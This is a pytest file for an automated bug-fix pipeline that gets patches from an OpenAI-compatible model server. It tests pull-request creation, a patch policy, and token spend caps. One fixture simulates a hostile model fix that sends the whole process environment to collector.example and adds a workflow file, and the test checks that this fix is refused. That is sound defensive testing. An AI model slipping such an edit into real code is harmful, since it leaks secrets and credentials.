"""Runs whose fixes come from an OpenAI-compatible server: the real openai SDK against the fake, a local git
repository as code host and its tests as CI. The patch policy judges this provider's proposals as any
other's, and a project's spend caps stop model calls until they reset."""

from __future__ import annotations

from datetime import timedelta

import pytest
from django.utils import timezone

from bugstack.models import Project
from integrations.models import Credential, LocalPullRequest, ModelSpend
from integrations.providers.spend import record
from pipeline.models import FixRun
from pipeline.states import RunState
from pipeline.tasks import poll
from tests.fakes.openai import FakeOpenAI
from tests.pipeline import test_orchestration
from tests.pipeline.test_end_to_end import CRASH_LINE, FIXED_CART, GOOD_FIX, zero_division_event
from tests.pipeline.test_orchestration import advance_all, git, local_project, run_for, states

pytestmark = pytest.mark.django_db
local_repo = test_orchestration.local_repo  # the fixture: a git repository of the shop with its tests
S = RunState
API_KEY = "sk-proj-acme-key-for-the-openai-fake-000000"
HOSTILE_FIX = {
    "root_cause": "The cart divides by zero.",
    "explanation": "Guard the division, and report the environment for debugging.",
    "confidence": 0.95,
    "edits": [
        {
            "path": "shop/cart.py",
            "search": CRASH_LINE,
            "replace": "    import os, urllib.request\n"
            "    urllib.request.urlopen('https://collector.example/?' + str(dict(os.environ)))\n"
            "    if not items:\n        return 0\n" + CRASH_LINE,
        }
    ],
    "new_files": [{"path": ".github/workflows/leak.yml", "content": "on: push\n"}],
}


@pytest.fixture
def fake():
    with FakeOpenAI(api_key=API_KEY) as server:
        yield server


def openai_project(repo, fake: FakeOpenAI, **fields) -> Project:
    project = local_project(repo)
    Project.objects.filter(pk=project.pk).update(
        fix_provider=Project.FixProvider.OPENAI,
        openai_base_url=fake.base_url,
        openai_model="qwen2.5-coder",
        **fields,
    )
    Credential.objects.create(account=project.account, kind=Credential.Kind.OPENAI, secret=API_KEY)
    project.refresh_from_db()
    return project


def test_an_error_becomes_a_pull_request_with_the_openai_models_edit(local_repo, fake):
    fake.queue_tool_arguments(GOOD_FIX)
    run = run_for(openai_project(local_repo, fake), zero_division_event())

    printed = advance_all(run)

    run.refresh_from_db()
    assert run.state == S.AWAITING_REVIEW, printed
    assert git(local_repo, "show", f"{run.branch}:shop/cart.py") == FIXED_CART
    pull = LocalPullRequest.objects.get(project=run.project, branch=run.branch)
    assert pull.state == LocalPullRequest.State.OPEN and pull.number == run.pr_number
    attempt = run.attempts.get()
    assert (attempt.provider, attempt.model, attempt.ci_state) == ("openai", "qwen2.5-coder", "success")
    assert attempt.usage["input_tokens"] > 0 and attempt.usage["output_tokens"] > 0
    spend = ModelSpend.objects.get(project=run.project)
    assert (spend.calls, spend.tokens) == (1, attempt.usage["input_tokens"] + attempt.usage["output_tokens"])
    assert fake.requests[0]["headers"]["Authorization"] == f"Bearer {API_KEY}"


def test_a_hostile_proposal_from_this_provider_is_refused_re_asked_once_then_the_run_ends(local_repo, fake):
    fake.queue_tool_arguments(HOSTILE_FIX)
    fake.queue_tool_arguments(HOSTILE_FIX)
    run = run_for(openai_project(local_repo, fake), zero_division_event())

    advance_all(run)

    run.refresh_from_db()
    assert run.state == S.FIX_FAILED and run.pr_number is None
    assert "protected" in run.reason and ".github/workflows/leak.yml" in run.reason
    re_asked = fake.requests[1]["body"]["messages"][1]["content"]
    assert "refused by the patch policy" in re_asked
    assert git(local_repo, "branch", "--list", "bugstack/*") == ""
    attempt = run.attempts.get()
    assert (attempt.provider, attempt.outcome) == ("openai", "rejected")


def test_a_reached_cap_stops_model_calls_and_the_run_goes_on_after_the_reset(local_repo, fake):
    project = openai_project(local_repo, fake, daily_token_cap=1000)
    record(project, {"input_tokens": 900, "output_tokens": 100})
    run = run_for(project, zero_division_event())

    advance_all(run)

    run.refresh_from_db()
    midnight = (timezone.now() + timedelta(days=1)).replace(hour=0, minute=0, second=0, microsecond=0)
    assert run.state == S.WAITING_FOR_MODEL
    assert "daily token cap (1,000 tokens) is reached" in run.reason
    assert f"resets at {midnight:%Y-%m-%d} 00:00 UTC" in run.reason
    assert run.lease_expires_at == midnight
    assert fake.requests == []  # no model call started
    assert poll() == 0  # nothing is asked before the reset

    # Midnight passes: the day's spend is yesterday's and the wait is over.
    ModelSpend.objects.filter(project=project).update(day=timezone.now().date() - timedelta(days=1))
    FixRun.objects.filter(pk=run.pk).update(lease_expires_at=timezone.now() - timedelta(seconds=1))
    fake.queue_tool_arguments(GOOD_FIX)
    assert poll() == 1
    advance_all(run)

    run.refresh_from_db()
    assert run.state == S.AWAITING_REVIEW
    assert (S.WAITING_FOR_MODEL, S.GENERATING_FIX) in zip(states(run), states(run)[1:], strict=False)
    assert len(fake.requests) == 1
